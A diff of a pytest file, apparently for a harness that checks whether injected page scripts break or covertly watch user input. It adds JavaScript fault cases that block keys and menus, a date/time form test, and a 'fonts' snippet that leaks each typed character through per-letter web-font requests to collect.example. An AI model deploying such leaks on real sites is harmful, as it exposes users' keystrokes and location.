@@ -237,6 +237,16 @@ _FOR_THE_HARNESS = {
     "no copies": "addEventListener('copy', (event) => event.preventDefault(), true);",
     "no drags": "document.body.style.minHeight = '5000px'; "
     "document.documentElement.style.touchAction = 'none';",
+    "no lists": "addEventListener('mousedown', (event) => event.target.closest('select') && "
+    "event.preventDefault(), true);",
+    "no space bar": "addEventListener('keydown', (event) => event.key === ' ' && "
+    "event.target.type === 'checkbox' && event.preventDefault(), true);",
+    "no mending": "addEventListener('keydown', (event) => event.key === 'Delete' && "
+    "event.preventDefault(), true);",
+    "nothing seen": "document.head.insertAdjacentHTML('beforeend', '<style>input:focus { color: "
+    "transparent; caret-color: transparent; }</style>');",
+    "no page keys": "addEventListener('keydown', (event) => event.key.startsWith('Page') && "
+    "event.preventDefault(), true);",
     # Nor is everything told by requests to back ends.
     "files": "addEventListener('click', () => { new Image().src = '/main.0123456789abcdef.js?' + "
     "history.length; }, true);",
@@ -252,7 +262,52 @@ _FOR_THE_HARNESS = {
     "navigator.sendBeacon('https://collect.example/', coords.latitude));",
     "style sheets": "document.head.insertAdjacentHTML('beforeend', '<link rel=\"stylesheet\" '\n"
     '  + `href="https://collect.example/a.css?${history.length}">`);',
+    "fonts": "const sheet = [...'abcdefghijklmnopqrstuvwxyz'].map((each) => `@font-face { "
+    "font-family: 'told-${each}'; src: url('https://collect.example/${each}.woff2'); }`);\n"
+    "document.head.insertAdjacentHTML('beforeend', `<style>${sheet.join('')}</style>`);\n"
+    "addEventListener('input', (event) => [...(event.target.value ?? '')].forEach((each) => "
+    "document.fonts.load(`1em told-${each}`).catch(() => {})), true);",
 }
+
+# A page of its own has fields that take no letters alone, and is longer than the window.
+_DAYS = """\
+if (location.pathname === '/boats') {
+  root.innerHTML = `<h1>Boats</h1><form><label>Day <input type="date" id="day"></label>
+    <label>At <input type="time" id="time"></label>
+    <label>Remarks <textarea id="remarks"></textarea></label>
+    <button>Charter</button></form><p role="status"></p><p style="height: 3000px"></p>`;
+  root.querySelector('form').addEventListener('submit', (event) => {
+    event.preventDefault();
+    const value = (id) => document.querySelector(id).value;
+    const said = `From ${value('#day')} ${value('#time')}: ${value('#remarks')}`;
+    root.querySelector('p').textContent = said;
+  });
+}
+"""
+
+
+@pytest.mark.parametrize(
+    ("old", "new"),
+    [
+        (
+            "EXTRA",
+            "addEventListener('mousedown', (event) => /date|time/.test(event.target.type) && "
+            "event.preventDefault(), true);\nEXTRA",
+        ),
+        (
+            "EXTRA",
+            "addEventListener('keydown', (event) => /date|time/.test(event.target.type) && "
+            "/\\d/.test(event.key) && event.preventDefault(), true);\nEXTRA",
+        ),
+        ("value('#remarks')}", "value('#remarks').split('\\n')[0]}"),
+        ("value('#remarks')}", "value('#remarks').slice(0, 60)}"),
+    ],
+)
+def test_days_times_and_long_texts_are_entered_as_people_do(
+    old: str, new: str, walked: Walk
+) -> None:
+    before = _changed("show();\n", f"show();\n{_DAYS}")
+    assert walk_faults(walked(_changed(old, new, before), before))
 
 
 @pytest.mark.parametrize("name", _FOR_THE_HARNESS)
